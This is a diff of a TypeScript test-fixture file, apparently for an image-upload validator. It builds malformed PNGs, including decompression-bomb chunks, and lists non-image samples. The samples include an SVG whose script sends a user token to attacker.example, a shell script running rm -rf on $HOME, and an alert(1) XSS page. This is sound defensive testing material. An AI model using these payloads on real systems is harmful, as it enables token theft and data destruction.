@@ -1,51 +1,49 @@
 import { crc32, deflateSync } from 'node:zlib';
 
 function chunk(type: string, data: Buffer): Buffer {
-  const named = Buffer.concat([Buffer.from(type), data]);
+  const typeAndData = Buffer.concat([Buffer.from(type), data]);
   const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
   length.writeUInt32BE(data.length);
-  check.writeUInt32BE(crc32(named));
-  return Buffer.concat([length, named, check]);
+  check.writeUInt32BE(crc32(typeAndData));
+  return Buffer.concat([length, typeAndData, check]);
 }
 
 interface Png {
   width: number;
   height: number;
-  /** As much as the picture data unfolds to; what such a picture needs unless said otherwise. */
+  /** Uncompressed size of the picture data. Default: the size that matches the dimensions. */
   bytes?: number;
-  /** 2: colours, 0: grey. */
+  /** PNG colour type: 0 is grey, 2 is RGB. */
   colours?: 0 | 2;
-  others?: Buffer[];
+  extraChunks?: Buffer[];
 }
 
-/** A PNG by hand, which says and holds what a picture program would never write. */
-export function aPng({ width, height, colours = 0, bytes, others = [] }: Png): Buffer {
-  const head = Buffer.alloc(13);
-  head.writeUInt32BE(width, 0);
-  head.writeUInt32BE(height, 4);
-  head[8] = 8;
-  head[9] = colours;
+/** Builds a PNG that no picture program would write. */
+export function aPng({ width, height, colours = 0, bytes, extraChunks = [] }: Png): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header[8] = 8;
+  header[9] = colours;
   const data = Buffer.alloc(bytes ?? (width * (colours === 2 ? 3 : 1) + 1) * height);
   return Buffer.concat([
     Buffer.from('89504e470d0a1a0a', 'hex'),
-    chunk('IHDR', head),
-    ...others,
+    chunk('IHDR', header),
+    ...extraChunks,
     chunk('IDAT', deflateSync(data, { level: 9 })),
     chunk('IEND', Buffer.alloc(0)),
   ]);
 }
 
-/** Words, or a colour profile, that unfold to so many bytes. */
-export function aFoldedChunk(type: 'zTXt' | 'iCCP' | 'iTXt', bytes: number): Buffer {
-  const heads = { zTXt: 'Comment\0\0', iCCP: 'icc\0\0', iTXt: 'XML:com.adobe.xmp\0\u0001\0\0\0' };
-  return chunk(type, Buffer.concat([Buffer.from(heads[type]), deflateSync(Buffer.alloc(bytes, 65), { level: 9 })]));
+export function aCompressedChunk(type: 'zTXt' | 'iCCP' | 'iTXt', bytes: number): Buffer {
+  const headers = { zTXt: 'Comment\0\0', iCCP: 'icc\0\0', iTXt: 'XML:com.adobe.xmp\0\u0001\0\0\0' };
+  return chunk(type, Buffer.concat([Buffer.from(headers[type]), deflateSync(Buffer.alloc(bytes, 65), { level: 9 })]));
 }
 
 export const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="900" height="1350">
 <script>fetch('https://attacker.example/' + localStorage.userToken)</script><rect width="900" height="1350"/></svg>`;
 
-/** The heads of programs, and of what else is no picture. */
-export const NO_PICTURES: Record<string, Buffer> = {
+export const NON_PICTURES: Record<string, Buffer> = {
   'a Windows program': Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(4000)]),
   'a Linux program': Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(4000)]),
   'a shell script': Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n'),
@@ -53,7 +51,7 @@ export const NO_PICTURES: Record<string, Buffer> = {
   'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
   'a GIF': Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100)]),
   'a PDF': Buffer.from('%PDF-1.7\n1 0 obj\n'),
-  'a RIFF that is sound': Buffer.concat([Buffer.from('RIFF\x24\0\0\0WAVEfmt '), Buffer.alloc(100)]),
+  'a WAVE file': Buffer.concat([Buffer.from('RIFF\x24\0\0\0WAVEfmt '), Buffer.alloc(100)]),
   'nothing at all': Buffer.alloc(0),
   'eleven bytes of a PNG': Buffer.from('89504e470d0a1a0a000000', 'hex'),
 };
